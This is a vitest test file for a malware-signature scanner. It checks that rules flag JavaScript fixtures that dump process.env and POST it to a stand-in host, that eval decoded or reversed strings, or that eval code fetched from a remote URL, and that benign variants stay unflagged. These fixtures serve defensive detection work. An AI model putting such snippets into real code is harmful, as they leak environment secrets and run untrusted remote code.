import { fileURLToPath } from 'node:url';
import { expect, it } from 'vitest';
import { completeSet, loadSignatures, scanSignatures } from '../../../src/signatures/index.js';
import { memoryTree } from '../../support/memory-tree.js';

const signatures = completeSet(
  await loadSignatures(fileURLToPath(new URL('../../../signatures', import.meta.url))),
);

async function rulesIn(files: Readonly<Record<string, string>>): Promise<string[]> {
  const { findings } = await scanSignatures({ tree: memoryTree(files), packages: [], signatures });
  return findings.map(({ rule }) => rule);
}

const SENT = 'code/environment-sent';
const send = "fetch('https://c.example.invalid', { method: 'POST', body });";

it.each<[what: string, code: string, rule: string]>([
  [
    'destructuring and a helper',
    `const { env } = process; const pack = (x) => JSON.stringify({ x }); const body = pack(env); ${send}`,
    SENT,
  ],
  [
    'a loop over its names',
    `const body = {}; for (const k in process.env) body[k] = process.env[k]; ${send}`,
    SENT,
  ],
  ['all but one variable', `const { PATH, ...body } = process.env; ${send}`, SENT],
  [
    'names that a function picks',
    `const body = Object.keys(process.env).reduce((o, k) => { o[k] = process.env[k]; return o; }, {}); ${send}`,
    SENT,
  ],
  [
    'a class that keeps it',
    `class Q { constructor() { this.q = []; } add(x) { this.q.push(x); } send() { const body = JSON.stringify(this.q); ${send} } } const q = new Q(); q.add(process.env); q.send();`,
    SENT,
  ],
  [
    'text whose characters are turned',
    "const f = (t) => t.split('').reverse().join(''); globalThis[f('lave')](atob('MQ=='));",
    'code/runs-decoded',
  ],
  [
    'another name of Function',
    "const make = (() => 0).constructor; make(Buffer.from('31', 'hex').toString())();",
    'code/runs-decoded',
  ],
  [
    'a module under a name in pieces',
    "const https = require(['ht', 'tps'].join('')); https.get('https://c.example.invalid', (r) => r.on('data', (c) => eval(c + '')));",
    'code/runs-response',
  ],
])('finds %s', async (_, code, rule) => {
  expect(await rulesIn({ 'index.js': code })).toContain(rule);
});

it.each<[what: string, code: string]>([
  ['single variables', "const body = { a: process.env.APP_NAME, b: process.env['REGION'] }; " + send],
  ['a variable whose name is given', `exports.send = (name) => { const body = process.env[name]; ${send} };`],
  ['names of variables', `const body = Object.keys(process.env).join(); ${send}`],
  [
    'a copy of which one variable is sent',
    `const all = { ...process.env }; const body = all.APP_NAME; ${send}`,
  ],
  [
    'a digest',
    `const body = require('crypto').createHash('sha256').update(JSON.stringify(process.env)).digest('hex'); ${send}`,
  ],
])('takes %s for harmless', async (_, code) => {
  expect(await rulesIn({ 'index.js': code })).toEqual([]);
});
